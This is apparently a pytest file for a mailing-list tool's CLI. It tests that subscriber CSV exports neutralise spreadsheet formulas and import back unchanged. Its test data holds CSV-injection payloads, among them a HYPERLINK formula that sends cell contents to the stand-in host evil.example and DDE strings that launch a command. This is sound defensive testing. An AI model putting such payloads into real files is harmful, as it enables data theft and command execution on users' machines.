"""CSV files are hostile both ways: an export never hands a spreadsheet a live formula (OWASP CSV
injection), and an import is bounded in columns and line length, refusing what is too big in one line."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from digest.admin.csv_cells import guard, unguard
from tests.support.cli import fails, ok, run

# What a spreadsheet would run: formulas, DDE-style commands, arithmetic, and the tab and CR that some
# programs skip before looking for a formula.
LIVE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
# Values that already start with the quote must come back exactly as well.
QUOTED = ["'=already quoted", "'plain quote", "''=two quotes"]


@pytest.mark.parametrize("value", [*LIVE, *QUOTED, "", "plain", "a=b", "'"])
def test_guarding_a_cell_is_undone_exactly_by_unguarding_it(value: str) -> None:
    assert unguard(guard(value)) == value
    assert guard(value)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_export_writes_no_live_formula_and_the_file_imports_back_unchanged(
    morning: str, tmp_path: Path
) -> None:
    ok("lists", "create", "copy", "--name", "Copy", "--from", "c@example.com")
    cells = [*LIVE, *QUOTED]
    for n, value in enumerate(cells):
        ok("subscribers", "add", morning, f"p{n}@example.com", "--name", value, "--attr", f"note={value}")
    ok("subscribers", "add", morning, "=1+1@example.com", "--attr", "@SUM(A1)=x")
    exported = run("subscribers", "export", morning, code=0).stdout
    for row in csv.reader(io.StringIO(exported)):
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    path = tmp_path / "out.csv"
    path.write_text(exported, encoding="utf-8")
    ok("subscribers", "import", "copy", str(path))
    people = {s["email"]: (s["name"], s["attrs"]) for s in ok("subscribers", "list", "copy")}
    assert people == {s["email"]: (s["name"], s["attrs"]) for s in ok("subscribers", "list", morning)}
    assert people["p0@example.com"] == (LIVE[0], {"note": LIVE[0]})
    assert people["=1+1@example.com"][1] == {"@SUM(A1)": "x"}
    assert run("subscribers", "export", "copy", code=0).stdout == exported
